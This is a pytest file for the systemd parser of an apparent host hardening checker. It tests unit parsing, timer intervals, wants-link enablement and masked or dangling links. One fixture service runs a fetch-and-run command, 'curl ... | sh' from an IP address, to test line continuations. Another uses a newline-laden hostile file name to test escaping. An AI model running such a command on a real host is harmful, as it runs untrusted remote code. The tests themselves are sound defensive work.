"""systemd units without systemd: unit text, timer intervals, and which units *.wants/ links enable."""

from __future__ import annotations

import pytest
from probe_helpers import parse

from hardencheck.facts.base import FactUnavailable
from hardencheck.facts.model import ParsedFact
from hardencheck.facts.parsers.systemd import calendar_interval_days, parse_unit, timespan_days
from hardencheck.facts.probes.systemd_units import SystemdUnitsProbe

AUDITD = """\
[Unit]
Description=Security Auditing Service
DefaultDependencies=no

[Service]
Type=forking
PIDFile=/run/auditd.pid
ExecStart=/sbin/auditd
## To use augenrules, uncomment the next line
ExecStartPost=-/sbin/augenrules --load
Restart=on-failure

[Install]
WantedBy=multi-user.target
"""


def unit(text: str, name: str = "x.service") -> tuple[dict, ParsedFact]:
    fact = ParsedFact()
    return parse_unit(text, f"/etc/systemd/system/{name}", name, fact, "units/0"), fact


def test_service_exec_lines_and_install_section() -> None:
    u, fact = unit(AUDITD, "auditd.service")
    assert u["description"] == "Security Auditing Service"
    assert u["exec_start"] == ["/sbin/auditd"]
    assert u["exec_other"] == ["ExecStartPost=-/sbin/augenrules --load"]
    assert u["install_wanted_by"] == ["multi-user.target"] and u["timer"] is None
    assert fact.locations["units/0/exec_start/0"].line == 8
    assert fact.locations["units/0"].line == 2


def test_empty_execstart_resets_and_continuations_join() -> None:
    text = ("[Service]\nExecStart=/usr/bin/old\nExecStart=\n; a comment\nExecStart=/bin/sh -c \\\n"
            "  'curl -s http://198.51.100.7/x | sh'\n#ExecStart=/commented\n")
    u, fact = unit(text)
    assert u["exec_start"] == ["/bin/sh -c  'curl -s http://198.51.100.7/x | sh'"]
    assert fact.locations["units/0/exec_start/0"].line == 5


def test_garbage_lines_are_warned_not_fatal() -> None:
    u, fact = unit("ExecStart=/before/any/section\n[Service]\nnot a setting\n\x00\x1b[31m\nUser=pos\n")
    assert u["exec_start"] == [] and u["user"] == "pos"
    assert any("outside any [Section]" in w for w in fact.warnings)
    assert any("not a Key=Value line" in w for w in fact.warnings)


@pytest.mark.parametrize(("spec", "days"), [
    ("daily", 1.0), ("weekly", 7.0), ("monthly", 31.0), ("hourly", 1 / 24),
    ("*-*-* 05:30:00", 1.0), ("*-*-* *:00/15:00", 1.0), ("Mon *-*-* 02:00", 7.0), ("Mon,Thu 03:00", 4.0),
    ("Mon..Fri *-*-* 04:00:00", 3.0), ("*-*-01 00:00:00", 31.0), ("*-01-01", 366.0), ("Sat 04:00 UTC", 7.0),
    ("2024-06-01 00:00:00", None), ("every second tuesday", None), ("*-*-* 25:xx", None),
])
def test_calendar_intervals(spec: str, days: float | None) -> None:
    assert calendar_interval_days(spec) == days


@pytest.mark.parametrize(("span", "days"), [("1d", 1.0), ("1w", 7.0), ("12h 30min", 12.5 / 24), ("86400", 1.0),
                                              ("1 fortnight", None), ("", None)])
def test_timespans(span: str, days: float | None) -> None:
    got = timespan_days(span)
    assert got == pytest.approx(days) if days is not None else got is None


def test_timer_takes_the_most_frequent_trigger_and_its_unit() -> None:
    text = "[Timer]\nOnCalendar=monthly\nOnCalendar=Sun 05:00\nOnUnitActiveSec=3d\nPersistent=true\n"
    u, fact = unit(text, "dailyaidecheck.timer")
    assert u["timer"] == {"on_calendar": ["monthly", "Sun 05:00"], "on_boot_sec": None, "on_unit_active_sec": "3d",
                          "unit": "dailyaidecheck.service", "persistent": True, "interval_days": 3.0}
    assert fact.locations["units/0/timer"].line == 2
    u, _ = unit("[Timer]\nOnBootSec=15min\nUnit=pos-sync.service\n", "pos-sync.timer")
    assert u["timer"]["interval_days"] is None and u["timer"]["unit"] == "pos-sync.service"


FILES = {
    "/etc/systemd/system/pos-app.service": "[Service]\nExecStart=/opt/pos/bin/pos\n[Install]\nWantedBy=multi-user.target\n",
    "/etc/systemd/system/multi-user.target.wants/pos-app.service": "[Service]\nExecStart=/opt/pos/bin/pos\n",
    "/etc/systemd/system/multi-user.target.wants/auditd.service": AUDITD,
    "/etc/systemd/system/timers.target.wants/dailyaidecheck.timer": "[Timer]\nOnCalendar=daily\n",
    "/etc/systemd/system/sshd.service": "[Service]\nExecStart=/usr/sbin/sshd -D\n",
    "/etc/systemd/system/README": "not a unit",
}


def test_probe_without_find_reads_units_through_wants_links() -> None:
    fact = parse(SystemdUnitsProbe(), FILES, host=False)
    units = {u["name"]: u for u in fact.data["units"]}
    assert sorted(units) == ["auditd.service", "dailyaidecheck.timer", "pos-app.service", "sshd.service"]
    assert units["auditd.service"]["enabled"] and units["auditd.service"]["wanted_by"] == ["multi-user.target"]
    assert units["auditd.service"]["path"] == "/etc/systemd/system/multi-user.target.wants/auditd.service"
    assert units["pos-app.service"]["path"] == "/etc/systemd/system/pos-app.service"
    assert units["sshd.service"]["enabled"] is False
    assert units["dailyaidecheck.timer"]["timer"]["interval_days"] == 1.0
    assert fact.data["listing"] == "files only"


def test_probe_with_find_sees_masked_and_dangling_links() -> None:
    listing = ("d\t/etc/systemd/system\t\0"
               "l\t/etc/systemd/system/auditd.service\t/dev/null\0"
               "l\t/etc/systemd/system/multi-user.target.wants/pos-app.service\t/etc/systemd/system/pos-app.service\0"
               "l\t/etc/systemd/system/multi-user.target.wants/ghost.service\t/usr/lib/systemd/system/ghost.service\0"
               "l\t/etc/systemd/system/multi-user.target.wants/evil\nname.service\t/tmp/x\0")
    files = {k: v for k, v in FILES.items() if "auditd" not in k}
    fact = parse(SystemdUnitsProbe(), files, {"systemd_find": listing})
    units = {u["name"]: u for u in fact.data["units"]}
    assert units["auditd.service"]["masked"] is True and units["auditd.service"]["readable"] is False
    assert units["ghost.service"]["enabled"] is True and units["ghost.service"]["readable"] is False
    assert units["ghost.service"]["link_target"] == "/usr/lib/systemd/system/ghost.service"
    assert "evil\\x0aname.service" in units  # a hostile file name is shown escaped
    assert any("ghost.service" in w for w in fact.warnings)


def test_probe_with_nothing_is_unavailable() -> None:
    with pytest.raises(FactUnavailable):
        parse(SystemdUnitsProbe(), {})
